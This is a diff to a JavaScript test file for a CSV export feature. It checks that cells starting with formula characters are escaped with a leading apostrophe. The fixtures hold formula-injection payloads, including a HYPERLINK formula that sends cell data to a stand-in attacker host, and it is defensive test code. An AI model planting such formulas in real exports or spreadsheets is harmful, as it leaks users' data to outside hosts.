@@ -39,17 +39,18 @@ describe('export: csv', () => {
     const f3 = byFact('f3');
     const f4 = byFact('f4');
     assert.ok(f1 && f2 && f3 && f4, 'a row per claim fact');
-    assert.equal(f1[col('text')], `'=HYPERLINK("http://attacker.example/steal?c="&A1, "Click for the figures") was pasted into the ledger on Monday.`);
+    // The text cell is the detected claim's text (the sentence), so only its start is fixed here.
+    assert.ok(f1[col('text')].startsWith(`'=HYPERLINK("http://attacker.example/steal?c="&A1, "Click for the figures") was pasted`));
     assert.equal(f1[col('speaker')], "'@SUM(B1:B2)");
     assert.equal(f1[col('source_titles')], `'=HYPERLINK("http://attacker.example","Ledger")`);
     assert.equal(f1[col('note')], "'+44 20 7946 0000 confirmed it");
     assert.equal(f1[col('checked_by')], "'=1+1");
-    assert.equal(f2[col('text')], "'+1 percent was the growth the ministry reported for 2025.");
+    assert.ok(f2[col('text')].startsWith("'+1 percent was the growth"));
     assert.equal(f2[col('note')], "'\tTabbed note");
-    assert.equal(f3[col('text')], "'-2 degrees was the coldest reading at the station last winter.");
+    assert.ok(f3[col('text')].startsWith("'-2 degrees was the coldest reading"));
     assert.equal(f3[col('source_titles')], "'-2 station log");
     assert.equal(f3[col('note')], "'\rCarriage return note");
-    assert.equal(f4[col('text')], "'@SUM(A1:A9) appeared in the budget table the council published.");
+    assert.ok(f4[col('text')].startsWith("'@SUM(A1:A9) appeared in the budget table"));
     assert.equal(f4[col('note')], 'Said "maybe", then, later, "no"');
     for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `cell ${JSON.stringify(cell)} could run as a formula`);
   });
